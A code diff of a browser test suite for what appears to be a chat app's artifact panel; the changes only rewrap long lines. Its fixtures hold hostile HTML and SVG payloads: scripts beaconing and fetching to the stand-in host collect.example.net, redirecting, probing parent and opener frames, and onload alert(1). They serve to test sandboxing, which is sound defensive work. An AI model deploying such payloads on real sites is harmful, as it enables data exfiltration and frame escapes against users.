@@ -46,7 +46,8 @@ async function openPanel(
           const id = headless.startMessage({ role: 'assistant' });
           headless.appendText(
             id,
-            `A calmer version.\n\n<artifact type="${kind}" title="${name}"${kind === 'code' ? ' language="javascript"' : ''}>${text}</artifact>`,
+            `A calmer version.\n\n<artifact type="${kind}" ` +
+              `title="${name}"${kind === 'code' ? ' language="javascript"' : ''}>${text}</artifact>`,
           );
           headless.endMessage(id);
         }
@@ -157,9 +158,11 @@ describe('what the panel does with an artifact', { timeout: 900_000 }, () => {
   });
 
   it('an html artifact that tries to leave its exported page gets nowhere', async () => {
-    const hostile = `<h1 id="t">Mine</h1><img src="https://collect.example.net/i.png"><link rel="stylesheet" href="https://collect.example.net/s.css">
+    const hostile = `<h1 id="t">Mine</h1><img src="https://collect.example.net/i.png"><link
+      rel="stylesheet" href="https://collect.example.net/s.css">
 <script>fetch('https://collect.example.net/f').catch(() => {}); new Image().src = 'https://collect.example.net/j';
-try { parent.document.title = 'taken'; document.querySelector('#t').textContent = 'reached the page'; } catch { document.querySelector('#t').textContent = 'alone'; }
+try { parent.document.title = 'taken'; document.querySelector('#t').textContent = 'reached the page'; }
+  catch { document.querySelector('#t').textContent = 'alone'; }
 try { navigator.sendBeacon('https://collect.example.net/b'); } catch {}
 setTimeout(() => { try { location.href = 'https://collect.example.net/n'; } catch {} }, 300);</script>`;
     const { page, close } = await openPanel(site, 'html', [hostile]);
@@ -203,7 +206,9 @@ setTimeout(() => { try { location.href = 'https://collect.example.net/n'; } catc
 
   it('a picture is saved sanitised, and as points in the size that was asked for', async () => {
     const svg =
-      '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80" onload="alert(1)"><style>rect{fill:red}</style><rect width="120" height="80"/><script>alert(1)</script><image href="https://collect.example.net/x.png"/></svg>';
+      '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80" ' +
+      'onload="alert(1)"><style>rect{fill:red}</style><rect width="120" ' +
+      'height="80"/><script>alert(1)</script><image href="https://collect.example.net/x.png"/></svg>';
     const { page, strangers, close } = await openPanel(site, 'svg', [svg], { title: 'Logo' });
     await page.locator('artifact-panel #zoom-in').waitFor();
     const { text, name } = await exported(page, /SVG/);
@@ -232,7 +237,12 @@ setTimeout(() => { try { location.href = 'https://collect.example.net/n'; } catc
   });
 
   it('a new window holds nothing but the sandboxed frame, and reaches neither the window nor the page', async () => {
-    const probe = `<p id="t">…</p><script>const say = []; for (const [name, get] of [['parent', () => parent.document], ['top', () => top.document], ['opener', () => top.opener && top.opener.document]]) { try { const x = get(); say.push(name + ':' + (x ? 'reached' : 'none')); } catch { say.push(name + ':refused'); } } document.querySelector('#t').textContent = say.join(' ') + ' ' + origin;</script>`;
+    const probe =
+      `<p id="t">…</p><script>const say = []; for (const [name, get] of [['parent', () => ` +
+      `parent.document], ['top', () => top.document], ['opener', () => top.opener && ` +
+      `top.opener.document]]) { try { const x = get(); say.push(name + ':' + (x ? 'reached' : ` +
+      `'none')); } catch { say.push(name + ':refused'); } } document.querySelector('#t').textContent = ` +
+      `say.join(' ') + ' ' + origin;</script>`;
     const { page, popups, close } = await openPanel(site, 'html', [probe]);
     await running(page);
     await page.locator('artifact-panel #tool-window').click();
@@ -338,7 +348,9 @@ setTimeout(() => { try { location.href = 'https://collect.example.net/n'; } catc
 
   it('edits in colours under a strict policy of the page, and Tab leaves the editor', async () => {
     const policy =
-      "default-src 'none'; script-src 'self'; style-src 'self'; font-src 'self'; img-src 'self' data: blob:; connect-src 'self'; require-trusted-types-for 'script'; trusted-types lit-html dompurify vitrine";
+      "default-src 'none'; script-src 'self'; style-src 'self'; font-src 'self'; img-src 'self' data: " +
+      "blob:; connect-src 'self'; require-trusted-types-for 'script'; trusted-types lit-html dompurify " +
+      'vitrine';
     const { page, errors, close } = await openPanel(site, 'code', ['const a = 1;'], { policy });
     await page.locator('artifact-panel #tool-edit').click();
     await page.locator('artifact-panel .cm-content').waitFor();
